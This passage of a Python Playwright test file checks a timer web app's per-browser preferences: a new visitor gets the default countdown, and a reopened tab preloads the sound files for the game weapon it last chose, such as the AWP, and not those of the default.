    expect(display(again)).to_have_text("00:50:00")
    stranger = open_app(other_context, server.url)  # another visitor: the defaults
    expect(display(stranger)).to_have_text("00:25:00")
    expect(stranger.get_by_label(TIME_FIELD)).to_be_visible()  # Countdown, the default mode


def test_a_tab_loads_ahead_the_sounds_of_the_weapon_it_shows(server: WebServer, context) -> None:
    """The first clicks' players are made once the tab's page is drawn (after its preferences are
    read), for the weapon it shows: the one this browser chose before, not the default."""
    page = open_app(context, server.url)
    choose(page, "Weapon", "AWP")
    assert wait_for(lambda: stored_preferences(page).get("weapon") == "awp")
    fetched: list[str] = []
    again = context.new_page()
    again.on("request", lambda request: fetched.append(urlparse(request.url).path))
    again.goto(server.url)
    wait_loaded(again)
    ahead = {"/sounds/ui/start.wav", "/sounds/weapons/awp/shot1.wav", "/sounds/weapons/awp/deploy.wav"}

    def fetched_ahead() -> bool:
        again.wait_for_timeout(50)  # Playwright hands over the page's request events while it waits
        return ahead <= set(fetched)

    assert wait_for(fetched_ahead), sorted(path for path in fetched if "sounds" in path)
    assert not [path for path in fetched if "/weapons/glock18/" in path]
